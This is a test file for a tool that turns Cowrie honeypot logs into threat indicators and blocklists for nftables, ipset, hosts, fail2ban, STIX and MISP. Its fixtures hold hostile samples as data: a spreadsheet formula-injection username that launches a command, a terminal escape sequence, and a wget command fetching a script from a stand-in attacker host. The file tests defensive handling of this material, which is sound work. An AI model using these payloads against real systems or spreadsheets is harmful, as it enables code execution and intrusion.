/** `indicators.ts` as a user runs it: its forms, where they go, what it refuses. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { unguardFormula } from "../../lib/text/csv.ts";
import { toLine } from "../support/event-logs.ts";
import { makeTempDir, runScript } from "../support/run.ts";

const HASH = "ab".repeat(32);
let folder: Awaited<ReturnType<typeof makeTempDir>>;
beforeAll(async () => {
  folder = await makeTempDir();
  const events = [
    { eventid: "session.connect", at: 0, src_ip: "5.6.7.8", dst_ip: "10.0.0.1" },
    { eventid: "login.failed", at: 1, src_ip: "5.6.7.8", username: "=cmd|' /C calc'!A0", password: "\x1b[2J" },
    { eventid: "command.input", at: 2, src_ip: "5.6.7.8", input: "wget http://evil.net/a.sh; wget http://7.7.7.7/b" },
    { eventid: "session.file_upload", at: 3, src_ip: "5.6.7.8", filename: "x", shasum: HASH },
    { eventid: "session.connect", at: 4, session: "s2", sensor: "b", src_ip: "5.6.7.8" },
    { eventid: "session.connect", at: 90_000, session: "s3", sensor: "b", src_ip: "2a01::7" },
  ];
  writeFileSync(join(folder.path, "cowrie.json"), events.map(event => `${toLine(event)}\n`).join(""));
  writeFileSync(join(folder.path, "own.txt"), "7.7.7.0/24 # ours\n");
});
afterAll(() => folder[Symbol.asyncDispose]());
const indicators = (...args: string[]) => runScript("indicators", ["cowrie.json", ...args], { cwd: folder.path });

test("plain: a value a line, and # before what it is", async () => {
  const { stdout, stderr, exitCode } = await indicators("--exclude", "own.txt");
  expect({ stdout, exitCode }).toEqual({
    stdout:
      "# 2 values: source addresses of attackers\n5.6.7.8\n2a01::7\n# 1 value: URLs that files were fetched from, and those in commands\n" +
      `http://evil.net/a.sh\n# 1 value: hosts of these URLs\nevil.net\n# 1 value: SHA-256 of files brought\n${HASH}\n`,
    exitCode: 0,
  });
  expect(stderr).toContain("indicators: 5 indicators (2 address, 1 url, 1 host, 1 hash); left out: 2 by --exclude; 1 log, ");
});

test("csv is safe in a spreadsheet, json has everything as it was", async () => {
  const csv = (await indicators("--format", "csv", "--type", "credential", "-q")).stdout.split("\n");
  expect(csv[0]).toBe("value,type,first_seen,last_seen,days,sensors,sources,sessions,hits,campaign,country,asn,as_org");
  expect(csv[1]).toBe("'=cmd|' /C calc'!A0:\\x1b[2J,credential,2024-03-01T12:00:01.000000Z,2024-03-01T12:00:01.000000Z,1,1,1,1,1,,,,");
  expect(unguardFormula(csv[1]!.split(",")[0]!)).toBe("=cmd|' /C calc'!A0:\\x1b[2J");
  const json = await indicators("--format", "json", "--type", "credential,address", "--min-sensors", "1", "-q");
  expect(json.stdout).not.toContain("\x1b");
  const [address, , credential] = json.stdout.trim().split("\n").map(line => JSON.parse(line));
  expect(address).toMatchObject({ value: "5.6.7.8", sensors: 2, hits: 2, seen_by: [{ sensor: "a", hits: 1 }, { sensor: "b", hits: 1 }] });
  expect(credential).toMatchObject({ username: "=cmd|' /C calc'!A0", password: "\x1b[2J" });
  expect((await indicators("--type", "url", "--defang", "-q")).stdout).toContain("\nhxxp://evil[.]net/a.sh\n");
});

test.each([
  ["nftables", /^add table inet cowrie\nadd set inet cowrie cowrie4 \{ type ipv4_addr; \}\nflush set inet cowrie cowrie4\nadd element inet cowrie cowrie4 \{ 5\.6\.7\.8, 7\.7\.7\.7 \}\nadd set .*\nflush .*\nadd element inet cowrie cowrie6 \{ 2a01::7 \}\n$/],
  ["ipset", /^create cowrie hash:ip family inet maxelem 65536 -exist\nflush cowrie\nadd cowrie 5\.6\.7\.8 -exist\nadd cowrie 7\.7\.7\.7 -exist\ncreate cowrie6 .*\nflush cowrie6\nadd cowrie6 2a01::7 -exist\n$/],
  ["hosts", /^0\.0\.0\.0 evil\.net\n$/],
  ["fail2ban", /^set cowrie banip 5\.6\.7\.8\nset cowrie banip 7\.7\.7\.7\nset cowrie banip 2a01::7\n$/],
])("--for %s holds what it can block, and nothing else", async (blocker, form) => {
  expect((await indicators("--for", blocker, "-q")).stdout).toMatch(form);
});

test("stix and misp: the same twice, byte for byte; a feed keeps the events it had", async () => {
  const [one, two] = await Promise.all([1, 2].map(() => indicators("--format", "stix", "-q")));
  expect(two!.stdout).toBe(one!.stdout);
  expect(JSON.parse(one!.stdout).type).toBe("bundle");
  const feed = join(folder.path, "feed");
  const read = () => Object.fromEntries(readdirSync(feed).sort().map(name => [name, readFileSync(join(feed, name), "utf8")]));
  for (let run = 0; run < 2; run++) expect((await indicators("--format", "misp", "-o", "feed", "-q")).exitCode).toBe(0);
  const whole = read();
  expect(Object.keys(whole)).toHaveLength(2);
  await indicators("--format", "misp", "--split", "day", "-o", "feed", "-q");
  const split = read();
  expect(split).toMatchObject({ ...whole, "manifest.json": split["manifest.json"]! });
  expect(Object.keys(JSON.parse(split["manifest.json"]!)).map(uuid => `${uuid}.json`)).toEqual(Object.keys(split).filter(name => name !== "manifest.json"));
  expect(Object.keys(split)).toHaveLength(4);
});

describe("refuses in one line", () => {
  test.each([
    [["--type", "adress"], 2, 'Cannot read --type "adress": expected address, url, '],
    [["--format", "misp"], 2, "Cannot write --format misp to stdout: expected -o FOLDER"],
    [["--for", "hosts", "--format", "csv"], 2, "Cannot use --for and --format: expected one of them"],
    [["--defang", "--format", "stix"], 2, "Cannot use --defang with what programs act on"],
    [["--split", "day"], 2, "Cannot use --split without --format misp"],
    [["--exclude", "nowhere.txt"], 1, 'Cannot read "nowhere.txt": no such file or folder'],
  ])("%j", async (args, code, line) => {
    const { stdout, stderr, exitCode } = await indicators(...(args as string[]));
    expect({ stdout, exitCode, first: stderr.split("\n")[0] }).toEqual({ stdout: "", exitCode: code as number, first: expect.stringContaining(line as string) });
  });

  test("a folder whose manifest is another's", async () => {
    writeFileSync(join(folder.path, "manifest.json"), "[]");
    const { stderr, exitCode } = await indicators("--format", "misp", "-o", ".", "-q");
    expect({ stderr, exitCode }).toEqual({ stderr: 'indicators: Cannot read "manifest.json": it is no manifest of a MISP feed\n', exitCode: 1 });
    expect(existsSync(join(folder.path, "manifest.json"))).toBe(true);
  });
});
